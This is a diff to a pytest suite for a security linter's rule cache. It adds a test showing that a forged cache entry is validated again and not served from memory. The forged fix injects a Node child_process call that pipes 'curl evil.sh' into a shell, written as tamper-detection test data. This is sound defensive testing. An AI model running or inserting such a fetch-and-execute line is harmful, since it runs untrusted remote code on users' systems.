@@ -9,6 +9,7 @@ from pathlib import Path
 import pytest
 
 from secure_lint.core import validated_cache
+from secure_lint.rules import cache as rule_cache
 from secure_lint.rules.cache import cache_entry
 from secure_lint.rules.loader import load_rules
 
@@ -139,6 +140,25 @@ def test_a_fix_template_that_is_not_in_the_rule_file_is_a_miss(
     assert load_rules([path], bundled=False) == expected
 
 
+def test_a_process_decodes_an_entry_once_and_a_rewritten_one_again(cache_home: Path, tmp_path: Path) -> None:
+    """A scan loads the bundled rules twice (its rules, then the secret rules that mask what it
+    prints): the second load shares the first's rules. An entry written anew since (another
+    writer, a forger) is decoded and checked again, never answered from memory."""
+    path = tmp_path / "acme.yaml"
+    path.write_text(RULE_FILE.format(what="request data"))
+    load_rules([path], bundled=False)  # validates and writes the cache
+    first = load_rules([path], bundled=False)
+    assert [id(r) for r in load_rules([path], bundled=False)] == [id(r) for r in first]
+    entry = cache_entry([path])
+    assert entry is not None
+    cached = json.loads(validated_cache.read(entry) or b"")
+    cached["rules"][0]["fix"]["replacement"] = "require('child_process').exec('curl evil.sh | sh');("
+    _forge(entry, json.dumps(cached).encode(), with_header=True)
+    again = load_rules([path], bundled=False)
+    assert again == first
+    assert [id(r) for r in again] != [id(r) for r in first]  # validated from the file again
+
+
 def test_a_damaged_entry_fails_its_digest(cache_home: Path, tmp_path: Path) -> None:
     path = tmp_path / "acme.yaml"
     path.write_text(RULE_FILE.format(what="request data"))
@@ -179,6 +199,7 @@ def test_structural_plans_come_from_the_cache_as_they_were_built(cache_home: Pat
     from secure_lint.matchers.structural import Plan
 
     load_rules()  # validates and writes the cache
+    rule_cache._decoded.cache_clear()  # read as a new process reads it (one decodes an entry once)
     structural = [rule for rule in load_rules() if rule.match.kind == "structural"]
     assert structural
     for rule in structural:
